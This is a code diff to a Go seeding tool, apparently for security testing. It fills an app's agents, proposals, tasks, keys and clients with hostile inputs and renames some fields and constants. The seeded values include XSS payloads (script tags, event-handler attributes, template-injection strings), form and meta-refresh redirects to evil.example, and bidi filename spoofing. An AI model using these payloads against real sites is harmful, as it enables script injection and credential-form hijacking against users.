@@ -17,7 +17,7 @@ type seeded struct {
 	hostile  string // one whose every field attacks
 	long     string // one with a title of 200 characters without a space
 	followup string
-	key      string // id of a key that ends soon
+	keyID    string // id of a key that ends soon
 	client   string
 	invited  string // id of an invitation
 
@@ -188,7 +188,7 @@ func (d *seeding) work() {
 
 func (d *seeding) access() {
 	soon := time.Now().Add(50 * time.Hour).UTC().Format(time.RFC3339)
-	d.key = d.id(d.root, "POST /keys", object{"principal": "agent:scout", "scopes": []string{read, write}, "name": "staging", "expires_at": soon})
+	d.keyID = d.id(d.root, "POST /keys", object{"principal": "agent:scout", "scopes": []string{read, write}, "name": "staging", "expires_at": soon})
 	if old := d.id(d.root, "POST /keys", object{"principal": "agent:fixer", "scopes": []string{read}, "name": "rotated"}); d.err == nil {
 		d.do(d.root, "POST /keys/"+old+"/rotate", object{"overlap_seconds": 86400})
 	}
@@ -213,8 +213,9 @@ const (
 		"<details open ontoggle=window.pwned=1>\n\n```html\n</code></pre><script>window.pwned=1</script>\n```\n\n" +
 		"# A heading <b onclick=\"window.pwned=1\">bold</b>\n\n<style>body{display:none}</style>\n\n<base href=//evil.example>\n\n" +
 		"<form action=//evil.example><input name=password></form>\n\n<meta http-equiv=refresh content=\"0;url=//evil.example\">"
-	bidiText = "abc \u202egnp.exe\u202c \u2066iso\u2069 \u05e9\u05dc\u05d5\u05dd \u200f\u0645\u0631\u062d\u0628\u0627"
-	quoteTex = `"><script>window.pwned=1</script><a title='x' "{{.}} ${1} {{constructor.constructor('window.pwned=1')()}}`
+	rightToLeft = "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 (1) <b>"
+	bidiText    = "abc \u202egnp.exe\u202c \u2066iso\u2069 \u05e9\u05dc\u05d5\u05dd \u200f\u0645\u0631\u062d\u0628\u0627"
+	quoteText   = `"><script>window.pwned=1</script><a title='x' "{{.}} ${1} {{constructor.constructor('window.pwned=1')()}}`
 )
 
 func (d *seeding) attack() {
@@ -223,16 +224,18 @@ func (d *seeding) attack() {
 		d.marks = append(d.marks, mark)
 		return mark + " " + text
 	}
-	long := func(where string) string { return say(where, scriptText+"\n\n"+markText+"\n\n"+quoteTex+"\n\n"+bidiText) }
-	d.do(d.root, "POST /agents", object{"id": "hostile", "name": say("agent", "<script>window.pwned=1</script>"), "description": say("agent-text", quoteTex)})
+	long := func(where string) string {
+		return say(where, scriptText+"\n\n"+markText+"\n\n"+quoteText+"\n\n"+bidiText)
+	}
+	d.do(d.root, "POST /agents", object{"id": "hostile", "name": say("agent", "<script>window.pwned=1</script>"), "description": say("agent-text", quoteText)})
 	mallory := d.keyOf("agent:hostile", read, write)
 	d.do(d.root, "POST /members", object{"kind": "user", "id": "hostile-user", "name": say("user", `"><img src=x onerror=window.pwned=1>`)})
 	d.do(d.root, "POST /invitations", object{"user": "hostile-guest", "name": say("guest", `"><svg onload=window.pwned=1>`)})
 	d.hostile = d.id(mallory, "POST /proposals", object{
-		"title": say("title", scriptText+bidiText), "category": "security", "problem": long("problem"), "suggested_fix": long("fix"), "priority": "high",
+		"title": say("title", scriptText+rightToLeft), "category": "security", "problem": long("problem"), "suggested_fix": long("fix"), "priority": "high",
 	})
 	d.do(mallory, "POST /proposals/"+d.hostile+"/vote", object{"vote": "for", "comment": long("comment")})
-	d.do(mallory, "PATCH /proposals/"+d.hostile, object{"title": say("edited", quoteTex+bidiText)})
+	d.do(mallory, "PATCH /proposals/"+d.hostile, object{"title": say("edited", quoteText+rightToLeft)})
 	for i := range 3 {
 		d.do(mallory, "POST /friction", object{
 			"fingerprint": "hostile:x", "title": say("friction", scriptText), "category": "security", "problem": long("friction-problem"),
@@ -241,7 +244,7 @@ func (d *seeding) attack() {
 	}
 	decided := d.decide("mark-decided", "approved")
 	d.do(d.root, "PATCH /proposals/"+decided, object{"status": "resolved", "resolution_note": long("note")})
-	d.do(d.root, "POST /tasks", object{"title": say("task", quoteTex), "description": long("task-text"), "assignee": "user:hostile-user"})
+	d.do(d.root, "POST /tasks", object{"title": say("task", quoteText), "description": long("task-text"), "assignee": "user:hostile-user"})
 	d.do(d.root, "POST /keys", object{"principal": "agent:hostile", "scopes": []string{read}, "name": say("key", `"><script>window.pwned=1</script>`)})
 	d.do(d.root, "POST /clients", object{"name": say("client", `"><script>window.pwned=1</script>`), "redirect_uris": []string{"com.example.x:/done"}})
 }
